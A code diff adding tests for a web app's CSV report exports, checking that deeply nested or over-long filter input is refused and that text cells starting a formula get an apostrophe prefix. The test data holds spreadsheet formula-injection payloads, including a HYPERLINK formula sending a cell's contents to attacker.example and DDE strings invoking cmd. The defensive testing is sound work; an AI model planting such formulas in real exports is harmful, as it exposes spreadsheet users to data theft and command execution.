@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 from datetime import date
 from decimal import Decimal
 
@@ -19,7 +20,13 @@ from tests.test_budget_summary import summary, two_initiatives
 
 
 def rows(text: str) -> list[dict[str, str]]:
-    return list(csv.DictReader(io.StringIO(text)))
+    """The rows as a spreadsheet reads them: the byte-order mark is not part of the text."""
+    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
+
+
+def cells(response: httpx.Response) -> list[list[str]]:
+    """Every cell, decoded as a spreadsheet does (UTF-8 with its byte-order mark)."""
+    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
 
 
 async def as_auditor(db: Database, http: httpx.AsyncClient) -> None:
@@ -179,3 +186,200 @@ async def test_reach_csv_has_rows_and_totals(db: Database, client: GraphQLClient
         Decimal("3"),
     )
     assert Decimal(total["share_reached"]) == Decimal("0.5")
+
+
+async def test_json_nested_past_the_parser_is_a_bad_request(
+    db: Database, client: GraphQLClient
+) -> None:
+    # given: the review's filter, 10,000 '[' then 10,000 ']' (F9 5)
+    await as_auditor(db, client.http)
+    deep = "[" * 10_000 + "]" * 10_000
+    # when
+    response = await client.http.get("/reports/reach.csv", params={"filter": deep})
+    # then: a typed refusal naming the parameter, not a plain-text 500
+    assert response.status_code == 400
+    (error,) = response.json()["errors"]
+    assert error["extensions"]["code"] == "BAD_REQUEST"
+    assert error["message"].startswith("filter: ")
+
+
+async def test_json_numbers_too_long_to_convert_are_a_bad_request(
+    db: Database, client: GraphQLClient
+) -> None:
+    await as_auditor(db, client.http)
+    response = await client.http.get(
+        "/reports/budget-summary.csv", params={"groupBy": "", "first": "1", "having": "9" * 5000}
+    )
+    assert response.status_code == 400
+    assert response.json()["errors"][0]["extensions"]["code"] == "BAD_REQUEST"
+
+
+# The review's payloads (F5), and the other characters that start a formula.
+PAYLOADS = {
+    "title": '=HYPERLINK("http://attacker.example/?d="&A1,"Click for details")',
+    "focus_area": "+cmd|' /C calc'!A0",
+    "region": "@SUM(1+1)",
+    "category": "=1+1",
+    "milestone": "-2+3+cmd|' /C calc'!A0",
+    "tab": "\t=1+1",
+    "cr": "\r=1+1",
+}
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
+
+
+async def test_text_that_would_run_as_a_formula_is_neutralised_everywhere(
+    db: Database, client: GraphQLClient
+) -> None:
+    # given an initiative whose every text is a formula, one with a negative spend
+    async with db.sessions() as session, session.begin():
+        program = await f.program(session)
+        bad = await f.initiative(
+            session,
+            program,
+            code="RT-CSV-1",
+            title=PAYLOADS["title"],
+            focus_area=PAYLOADS["focus_area"],
+            region=PAYLOADS["region"],
+        )
+        await f.budget_line(session, bad, amount=Decimal("1000.00"), category=PAYLOADS["category"])
+        for title in (PAYLOADS["milestone"], PAYLOADS["tab"], PAYLOADS["cr"]):
+            await f.milestone(session, bad, title=title, planned_date=date(2024, 1, 31))
+        refund = await f.initiative(session, program, code="RT-CSV-2", region="CN")
+        await f.transaction(
+            session, refund, type=m.TransactionType.EXPENDITURE, amount=Decimal("-9.99")
+        )
+    await as_auditor(db, client.http)
+    # when
+    downloads = {
+        name: await client.http.get(f"/reports/{name}.csv", params=params)
+        for name, params in (
+            ("budget-summary", {"groupBy": "INITIATIVE,FOCUS_AREA,REGION,CATEGORY"}),
+            ("timeline-initiatives", {"asOfDate": "2024-03-01"}),
+            ("timeline-milestones", {"asOfDate": "2024-03-01"}),
+        )
+    }
+    # then no cell starts a formula; a text that would gets an apostrophe in front
+    for name, response in downloads.items():
+        assert response.status_code == 200, (name, response.text)
+        for row in cells(response):
+            for cell in row:
+                assert not cell.startswith(FORMULA_START) or NUMBER.fullmatch(cell), (name, cell)
+    (group,) = [
+        r for r in rows(downloads["budget-summary"].text) if r["initiative_code"] == "RT-CSV-1"
+    ]
+    assert group["initiative_title"] == "'" + PAYLOADS["title"]
+    assert group["focus_area"] == "'" + PAYLOADS["focus_area"]
+    assert group["region"] == "'" + PAYLOADS["region"]
+    assert group["category"] == "'" + PAYLOADS["category"]
+    (timeline,) = [
+        r
+        for r in rows(downloads["timeline-initiatives"].text)
+        if r["initiative_code"] == "RT-CSV-1"
+    ]
+    assert timeline["initiative_title"] == "'" + PAYLOADS["title"]
+    late = {r["milestone"] for r in rows(downloads["timeline-milestones"].text)}
+    assert late == {"'" + PAYLOADS[k] for k in ("milestone", "tab", "cr")}
+    # and numbers stay numbers, a negative one included
+    (refund_row,) = [
+        r for r in rows(downloads["budget-summary"].text) if r["initiative_code"] == "RT-CSV-2"
+    ]
+    assert refund_row["spent"] == "-9.99"
+    assert refund_row["variance"] == "9.99"
+
+
+async def test_chinese_text_opens_in_a_spreadsheet(db: Database, client: GraphQLClient) -> None:
+    # given
+    async with db.sessions() as session, session.begin():
+        program = await f.program(session)
+        await f.initiative(session, program, code="CP-10", title="浙江共同富裕发展基金")
+    await as_auditor(db, client.http)
+    # when
+    response = await client.http.get("/reports/timeline-initiatives.csv")
+    # then: a UTF-8 byte-order mark first, which is how Excel knows the encoding
+    assert response.content.startswith(b"\xef\xbb\xbf")
+    assert response.headers["content-type"] == "text/csv; charset=utf-8"
+    header, row = cells(response)
+    assert header[0] == "as_of_date"
+    assert row[header.index("initiative_title")] == "浙江共同富裕发展基金"
+
+
+async def test_booleans_and_counts_read_as_people_write_them(
+    db: Database, client: GraphQLClient
+) -> None:
+    # given an overdue milestone and a reach of "more than 10,000 people"
+    async with db.sessions() as session, session.begin():
+        program = await f.program(session)
+        a = await f.initiative(session, program, code="A")
+        await f.milestone(session, a, planned_date=date(2024, 1, 31))
+        group = await f.beneficiary_group(session, code="youth")
+        await f.beneficiary_figure(
+            session,
+            a,
+            group,
+            target_value=Decimal("20000"),
+            reached_value=Decimal("10000"),
+            reached_qualifier=m.FigureQualifier.MORE_THAN,
+        )
+    await as_auditor(db, client.http)
+    # when
+    late = rows(
+        (
+            await client.http.get(
+                "/reports/timeline-milestones.csv", params={"asOfDate": "2024-03-01"}
+            )
+        ).text
+    )
+    (reach,) = rows((await client.http.get("/reports/reach.csv")).text)
+    (totals,) = rows((await client.http.get("/reports/reach-totals.csv")).text)
+    # then
+    assert [r["overdue"] for r in late] == ["TRUE"]
+    assert (reach["target"], reach["reached"], reach["reached_qualifier"]) == (
+        "20000",
+        "10000",
+        "MORE_THAN",
+    )
+    assert Decimal(reach["share_reached"]) == Decimal("0.5")
+    assert (totals["target"], totals["reached"], totals["figure_count"]) == ("20000", "10000", "1")
+
+
+async def test_a_converted_summary_names_its_rates(db: Database, client: GraphQLClient) -> None:
+    # given CNY spending converted to USD at two rates
+    async with db.sessions() as session, session.begin():
+        program = await f.program(session)
+        a = await f.initiative(session, program, code="A")
+        for rate, day, source in (
+            ("0.15", date(2021, 1, 1), "first"),
+            ("0.16", date(2022, 6, 1), "second"),
+        ):
+            await f.exchange_rate(session, rate=Decimal(rate), rate_date=day, source=source)
+        for amount, day in (("100.00", date(2022, 1, 1)), ("200.00", date(2022, 7, 1))):
+            await f.transaction(
+                session,
+                a,
+                type=m.TransactionType.EXPENDITURE,
+                amount=Decimal(amount),
+                transaction_date=day,
+                value_date=day,
+            )
+    await as_auditor(db, client.http)
+    # when
+    response = await client.http.get(
+        "/reports/budget-summary.csv", params={"groupBy": "INITIATIVE", "currency": "USD"}
+    )
+    report = await summary(client, groupBy=["INITIATIVE"], currency="USD")
+    # then: after the total, one row per rate the figures were converted at
+    table = rows(response.text)
+    assert [r["row"] for r in table] == ["group", "total", "rate", "rate"]
+    rates = [
+        (r["rate_currency"], r["rate"], r["rate_date"], r["rate_source"], r["rate_records"])
+        for r in table
+        if r["row"] == "rate"
+    ]
+    assert rates == [
+        (r["currency"], r["rate"], r["rateDate"], r["source"], str(r["records"]))
+        for r in report["ratesUsed"]
+    ]
+    assert {(source, records) for *_, source, records in rates} == {("first", "1"), ("second", "1")}
+    assert all(r["currency"] == "USD" for r in table)
+    assert table[1]["spent"] == report["total"]["spent"]["amount"] == "47.00"
